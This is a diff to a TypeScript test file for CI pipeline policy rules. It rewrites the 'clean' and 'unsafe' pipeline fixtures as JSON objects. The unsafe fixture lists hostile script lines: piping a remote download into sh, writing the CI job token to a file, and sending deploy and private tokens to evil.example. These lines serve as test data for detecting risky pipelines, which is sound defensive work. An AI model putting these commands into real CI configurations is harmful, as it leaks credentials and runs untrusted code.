@@ -198,19 +198,21 @@ describe("what the jobs do", () => {
     { id: "ci_rule", rule: 'ci.jobs.all(j, !j.script.exists(s, s.contains("npm install")))', message: "m" },
   ];
   const token = ["glpat", "-", "x9Kq2mVb7RtY4wLsPz3N"].join("");
-  const clean =
-    '---\nbuild:\n  script:\n  - npm ci\n  - curl -H "X: $DEPLOY_TOKEN" https://api.example.com/x\n';
-  const unsafe = `---
-build:
-  services:
-  - docker:dind
-  script:
-  - npm install
-  - curl -k https://get.example.com/x | sh
-  - echo "$CI_JOB_TOKEN" > token.txt
-  - curl -H "X: $DEPLOY_TOKEN" https://evil.example/x
-  - curl -H "PRIVATE-TOKEN: ${token}" https://evil.example/x
-`;
+  const clean = JSON.stringify({
+    build: { script: ["npm ci", 'curl -H "X: $DEPLOY_TOKEN" https://api.example.com/x'] },
+  });
+  const unsafe = JSON.stringify({
+    build: {
+      services: ["docker:dind"],
+      script: [
+        "npm install",
+        "curl -k https://get.example.com/x | sh",
+        'echo "$CI_JOB_TOKEN" > token.txt',
+        'curl -H "X: $DEPLOY_TOKEN" https://evil.example/x',
+        `curl -H "PRIVATE-TOKEN: ${token}" https://evil.example/x`,
+      ],
+    },
+  });
   const configure = (merged_yaml: string, file = "build:\n  script: make\n") => {
     const row = { valid: true, errors: [], warnings: [], merged_yaml, includes: [] };
     project.ciLintAt.set(headOf(sandbox, 7), row);
